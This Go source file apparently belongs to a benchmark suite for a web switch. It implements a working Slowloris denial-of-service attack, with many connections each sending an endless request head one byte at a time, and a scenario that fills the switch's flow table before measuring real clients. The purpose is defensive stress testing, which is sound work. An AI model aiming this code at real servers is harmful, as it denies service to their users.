package attack

import (
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"sync"
	"syscall"
	"time"

	"webswitch/bench/load"
	"webswitch/bench/site"
)

// slowDialTimeout is the connect time limit when SlowlorisConfig.DialTimeout
// is 0.
const slowDialTimeout = 5 * time.Second

// fileSlack is how many file descriptors Slowloris leaves for the rest of
// the process beyond its connections.
const fileSlack = 256

// statusLineLen is the length of "HTTP/1.1 408": the part of a response a
// slow connection keeps.
const statusLineLen = 12

// slowFiller repeats after the request line and Host forever: the head a
// slow connection sends never ends.
const slowFiller = "X-Slow: 1\r\n"

// SlowlorisConfig describes a slow-client attack: connections that send a
// request head one byte at a time and never finish it.
type SlowlorisConfig struct {
	URL         string        // http://host[:port]/path: where to connect, and the head's path and Host (required)
	Connections int           // connections to open, one after the other (required)
	Interval    time.Duration // least time between two bytes of a connection (required)
	Jitter      time.Duration // each gap is Interval plus a random duration below Jitter
	// Hold is how long a connection may live: one still open that long
	// after its connect is closed and counted open. 0: until ctx ends.
	Hold        time.Duration
	DialTimeout time.Duration // time limit of one connect (default 5 s)
}

// SlowlorisResult says how the slow connections ended.
type SlowlorisResult struct {
	Connections   int     `json:"connections"`    // asked for
	Opened        int     `json:"opened"`         // connected
	ConnectFailed int     `json:"connect_failed"` // the connect failed or timed out
	OpenSeconds   float64 `json:"open_seconds"`   // time to try all the connects
	// Answered counts the connections the server closed after a response,
	// by its status (0: not an HTTP status line). The switch answers 408
	// when a head takes longer than its request_timeout.
	Answered  map[int]int `json:"answered,omitempty"`
	Reset     int         `json:"reset"`  // reset by the server (a RST)
	Closed    int         `json:"closed"` // closed by the server without a response
	Failed    int         `json:"failed"` // ended by another error
	Open      int         `json:"open"`   // still open after Hold, or when ctx ended
	BytesSent uint64      `json:"bytes_sent"`
	// Lifetime is the time from connect to the end, in seconds, of the
	// connections the server ended (answered, reset or closed).
	Lifetime Lifetime `json:"lifetime_s"`
	Seconds  float64  `json:"seconds"` // the whole run
}

// Lifetime sums up durations, in seconds.
type Lifetime struct {
	P50 float64 `json:"p50"`
	P99 float64 `json:"p99"`
	Max float64 `json:"max"`
}

// slowEnd is how one slow connection ended.
type slowEnd uint8

const (
	endAnswered slowEnd = iota
	endReset
	endClosed
	endFailed
	endOpen
)

// slowOutcome is one slow connection's end, its status if answered, its
// lifetime and the bytes it sent.
type slowOutcome struct {
	end    slowEnd
	status int
	life   time.Duration
	sent   uint64
}

// Slowloris opens cfg.Connections connections to cfg.URL, one after the
// other, from the goroutine that calls it: to open them in a network
// namespace, call it from a thread in that namespace (testbed.Do). Each
// connection then sends a request head that never ends, one byte every
// cfg.Interval (plus jitter), until the server ends it, cfg.Hold passes or
// ctx ends. Slowloris returns when every connection has ended; it raises
// the process's soft limit of open files if it must.
func Slowloris(ctx context.Context, cfg SlowlorisConfig) (SlowlorisResult, error) {
	res := SlowlorisResult{Connections: cfg.Connections}
	if cfg.Connections < 1 || cfg.Interval <= 0 || cfg.Jitter < 0 || cfg.Hold < 0 || cfg.DialTimeout < 0 {
		return res, fmt.Errorf("%w: %+v", ErrConfig, cfg)
	}
	if cfg.DialTimeout == 0 {
		cfg.DialTimeout = slowDialTimeout
	}
	addr, head, err := slowTarget(cfg.URL)
	if err != nil {
		return res, err
	}
	if err := raiseFileLimit(uint64(cfg.Connections) + fileSlack); err != nil {
		return res, err
	}
	outcomes := make(chan slowOutcome, cfg.Connections)
	var wg sync.WaitGroup
	dialer := net.Dialer{Timeout: cfg.DialTimeout}
	start := time.Now()
	for range cfg.Connections {
		if ctx.Err() != nil {
			break
		}
		c, err := dialer.DialContext(ctx, "tcp4", addr)
		if err != nil {
			res.ConnectFailed++
			continue
		}
		res.Opened++
		wg.Go(func() { outcomes <- slowConn(ctx, c, head, &cfg) })
	}
	res.OpenSeconds = time.Since(start).Seconds()
	wg.Wait()
	close(outcomes)
	res.Seconds = time.Since(start).Seconds()
	var lives []time.Duration
	for o := range outcomes {
		res.BytesSent += o.sent
		switch o.end {
		case endAnswered:
			if res.Answered == nil {
				res.Answered = map[int]int{}
			}
			res.Answered[o.status]++
		case endReset:
			res.Reset++
		case endClosed:
			res.Closed++
		case endFailed:
			res.Failed++
		case endOpen:
			res.Open++
			continue
		}
		if o.end != endFailed {
			lives = append(lives, o.life)
		}
	}
	res.Lifetime = lifetimeOf(lives)
	return res, nil
}

// slowTarget parses an http:// URL into the address to dial and the start
// of the head: request line, Host and User-Agent.
func slowTarget(raw string) (addr, head string, err error) {
	u, err := url.Parse(raw)
	if err != nil {
		return "", "", fmt.Errorf("attack: %w", err)
	}
	if u.Scheme != "http" || u.Hostname() == "" {
		return "", "", fmt.Errorf("%w: URL %q: want http://host[:port]/path", ErrConfig, raw)
	}
	port := u.Port()
	if port == "" {
		port = "80"
	}
	head = "GET " + u.RequestURI() + " HTTP/1.1\r\nHost: " + u.Host + "\r\nUser-Agent: wsbench-slowloris\r\n"
	return net.JoinHostPort(u.Hostname(), port), head, nil
}

// headByte returns byte off of the endless head that starts with head.
func headByte(head string, off uint64) byte {
	if off < uint64(len(head)) {
		return head[off]
	}
	return slowFiller[(off-uint64(len(head)))%uint64(len(slowFiller))]
}

// raiseFileLimit makes the soft limit of open files at least n, up to the
// hard limit; it fails when the hard limit is lower.
func raiseFileLimit(n uint64) error {
	var l syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &l); err != nil {
		return fmt.Errorf("attack: getrlimit: %w", err)
	}
	if l.Cur >= n {
		return nil
	}
	if l.Max < n {
		return fmt.Errorf("attack: %d open files needed, the hard limit is %d", n, l.Max)
	}
	l.Cur = n
	if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &l); err != nil {
		return fmt.Errorf("attack: setrlimit: %w", err)
	}
	return nil
}

// slowConn sends the head on c one byte at a time and waits, reading, for
// the server to end the connection; then it closes c.
func slowConn(ctx context.Context, c net.Conn, head string, cfg *SlowlorisConfig) (o slowOutcome) {
	start := time.Now()
	defer func() {
		o.life = time.Since(start)
		c.Close()
	}()
	stop := context.AfterFunc(ctx, func() { c.SetReadDeadline(time.Unix(1, 0)) })
	defer stop()
	gap := func() time.Duration {
		if cfg.Jitter > 0 {
			return cfg.Interval + rand.N(cfg.Jitter)
		}
		return cfg.Interval
	}
	next := start.Add(rand.N(cfg.Interval + cfg.Jitter)) // spread the connections' phases
	end := time.Time{}
	if cfg.Hold > 0 {
		end = start.Add(cfg.Hold)
	}
	var buf [512]byte
	kept := 0 // response bytes kept in buf: the start of the status line
	for {
		wake := next
		if !end.IsZero() && end.Before(wake) {
			wake = end
		}
		c.SetReadDeadline(wake)
		n, err := c.Read(buf[kept:])
		kept = min(kept+n, statusLineLen)
		switch {
		case err == nil:
			continue
		case errors.Is(err, os.ErrDeadlineExceeded):
			now := time.Now()
			if ctx.Err() != nil || !end.IsZero() && !now.Before(end) {
				o.end = endOpen
				return o
			}
			if now.Before(next) {
				continue
			}
			if _, err := c.Write([]byte{headByte(head, o.sent)}); err != nil {
				o.end = errEnd(err)
				return o
			}
			o.sent++
			next = next.Add(gap())
		case errors.Is(err, io.EOF) && kept > 0:
			o.end, o.status = endAnswered, parseStatus(buf[:kept])
			return o
		default:
			o.end = errEnd(err)
			return o
		}
	}
}

// errEnd classifies the error that ended a slow connection.
func errEnd(err error) slowEnd {
	switch {
	case errors.Is(err, syscall.ECONNRESET), errors.Is(err, syscall.EPIPE):
		return endReset
	case errors.Is(err, io.EOF):
		return endClosed
	}
	return endFailed
}

// parseStatus returns the status of a response that starts with b, or 0.
func parseStatus(b []byte) int {
	if len(b) < statusLineLen || string(b[:5]) != "HTTP/" || b[8] != ' ' {
		return 0
	}
	n, err := strconv.Atoi(string(b[9:12]))
	if err != nil {
		return 0
	}
	return n
}

// lifetimeOf sums up durations.
func lifetimeOf(d []time.Duration) Lifetime {
	if len(d) == 0 {
		return Lifetime{}
	}
	slices.Sort(d)
	at := func(q float64) float64 { return d[int(q*float64(len(d)-1))].Seconds() }
	return Lifetime{P50: at(0.5), P99: at(0.99), Max: d[len(d)-1].Seconds()}
}

// sampleEvery is how often SlowClients reads the switch's counters while
// the real clients run.
const sampleEvery = 500 * time.Millisecond

// fullWait bounds how long SlowClients waits for the slow connections to
// fill the flow table.
const fullWait = 20 * time.Second

// SlowClientsConfig describes the slow clients scenario: slow connections
// (Slowloris, from the client host) fill the switch's flow table, and once
// it is full, real clients fetch a page through the switch, a new
// connection per request, at a steady rate.
type SlowClientsConfig struct {
	Slowloris   SlowlorisConfig // the slow connections (required)
	MaxFlows    int             // the site's switch.max_flows (required)
	Wsbench     string          // the wsbench binary, whose "wsbench load" is the real clients (required)
	URL         string          // the page the real clients fetch (required)
	Rate        float64         // real requests per second (required)
	Connections int             // real clients' connections at most at once (required)
	Duration    time.Duration   // real clients' measured time (required)
	Timeout     time.Duration   // real clients' time limit for one request, connecting included (required)
}

// SlowClientsResult is the outcome of the scenario. The counters are the
// switch's, summed over its shards, from before the slow connections to
// after they all ended.
type SlowClientsResult struct {
	Slowloris SlowlorisResult `json:"slowloris"`
	Load      load.Result     `json:"load"`    // the real clients' run
	Success   float64         `json:"success"` // share of the real requests that succeeded
	// TableFullAfter is the time from the first slow connect until every
	// shard's table was full.
	TableFullAfter float64 `json:"table_full_after_s"`
	ShardLimit     int     `json:"shard_limit"` // flows a shard holds at most: max_flows / shards
	// Samples of the switch's counters while the real clients ran, and
	// how many found every shard's table full.
	Samples     int `json:"samples"`
	FullSamples int `json:"full_samples"`
	// The most active flows seen, in all and in one shard, in the samples
	// and at the start and end.
	MaxActiveFlows      int64  `json:"max_active_flows"`
	MaxShardActiveFlows int64  `json:"max_shard_active_flows"`
	FlowsEvicted        uint64 `json:"flows_evicted"`
	TableFullDrops      uint64 `json:"table_full_drops"`
	RequestTimeouts     uint64 `json:"http_408"` // the switch's 408 answers
	Resets              uint64 `json:"resets"`   // RSTs the switch sent
}

// SlowClients runs the slow clients scenario (see SlowClientsConfig) on the
// site and returns what it measured. It returns once the real clients are
// done and every slow connection has ended.
func SlowClients(ctx context.Context, s *site.Site, cfg SlowClientsConfig) (res SlowClientsResult, err error) {
	if cfg.MaxFlows < 1 || cfg.Wsbench == "" || cfg.URL == "" || !(cfg.Rate > 0) || cfg.Connections < 1 || cfg.Duration <= 0 || cfg.Timeout <= 0 {
		return res, fmt.Errorf("%w: %+v", ErrConfig, cfg)
	}
	before, err := s.ShardCounters()
	if err != nil {
		return res, err
	}
	res.ShardLimit = max(1, cfg.MaxFlows/len(before))
	res.sample(before)

	slowCtx, cancel := context.WithCancel(ctx)
	slowDone := make(chan struct{})
	var slowErr error
	start := time.Now()
	go func() {
		defer close(slowDone)
		slowErr = s.TB.Do("cli", func() (err error) {
			res.Slowloris, err = Slowloris(slowCtx, cfg.Slowloris)
			return err
		})
	}()
	defer func() {
		if err != nil {
			cancel() // the slow connections end at once
		}
		<-slowDone
		cancel()
	}()

	if err := res.waitFull(s, slowDone, start); err != nil {
		return res, err
	}
	logPath := filepath.Join(s.Dir, "slowclients-load.log")
	client, err := s.TB.Start("cli", logPath, cfg.Wsbench, "load", "-json", "-url", cfg.URL,
		"-rate", strconv.FormatFloat(cfg.Rate, 'f', -1, 64), "-c", strconv.Itoa(cfg.Connections),
		"-keepalive=false", "-warmup", "0s", "-d", cfg.Duration.String(), "-timeout", cfg.Timeout.String())
	if err != nil {
		return res, err
	}
	tick := time.NewTicker(sampleEvery)
	defer tick.Stop()
sampling:
	for {
		select {
		case <-client.Done():
			break sampling
		case <-tick.C:
			c, err := s.ShardCounters()
			if err != nil {
				client.Stop()
				return res, err
			}
			res.Samples++
			if res.sample(c) {
				res.FullSamples++
			}
		}
	}
	if err := client.Wait(); err != nil {
		return res, fmt.Errorf("attack: the real clients failed: %w", err)
	}
	if res.Load, err = load.ReadResult(logPath); err != nil {
		return res, err
	}
	res.Success = successRate(&res.Load)
	<-slowDone
	if slowErr != nil {
		return res, slowErr
	}
	after, err := s.ShardCounters()
	if err != nil {
		return res, err
	}
	res.sample(after)
	delta := func(group, key string) uint64 {
		return uint64(max(0, sumIn(after, group, key)-sumIn(before, group, key)))
	}
	res.FlowsEvicted = delta("", "flows_evicted")
	res.Resets = delta("", "resets")
	res.TableFullDrops = delta("drops", "table_full")
	res.RequestTimeouts = delta("http_errors", "408")
	return res, nil
}

// waitFull waits until every shard's flow table is full, or fails when the
// slow connections end first or it takes longer than fullWait.
func (res *SlowClientsResult) waitFull(s *site.Site, slowDone <-chan struct{}, start time.Time) error {
	for {
		c, err := s.ShardCounters()
		if err != nil {
			return err
		}
		if res.sample(c) {
			res.TableFullAfter = time.Since(start).Seconds()
			return nil
		}
		select {
		case <-slowDone:
			return errors.New("attack: the slow connections ended before the flow table was full")
		case <-time.After(100 * time.Millisecond):
		}
		if time.Since(start) > fullWait {
			return fmt.Errorf("attack: the flow table was not full after %v of slow connections", fullWait)
		}
	}
}

// sample records the active flows of the shards' counters and reports
// whether every shard's table was full.
func (res *SlowClientsResult) sample(shards map[int]map[string]any) (full bool) {
	full = len(shards) > 0
	var all int64
	for _, c := range shards {
		v, _ := c["active_flows"].(float64)
		n := int64(v)
		all += n
		res.MaxShardActiveFlows = max(res.MaxShardActiveFlows, n)
		full = full && n >= int64(res.ShardLimit)
	}
	res.MaxActiveFlows = max(res.MaxActiveFlows, all)
	return full
}

// sumIn adds up the counter key over the shards: a top-level counter when
// group is empty, else one of the group's (the drops or http_errors map).
func sumIn(shards map[int]map[string]any, group, key string) float64 {
	if group == "" {
		return sum(shards, key)
	}
	var n float64
	for _, c := range shards {
		m, _ := c[group].(map[string]any)
		v, _ := m[key].(float64)
		n += v
	}
	return n
}
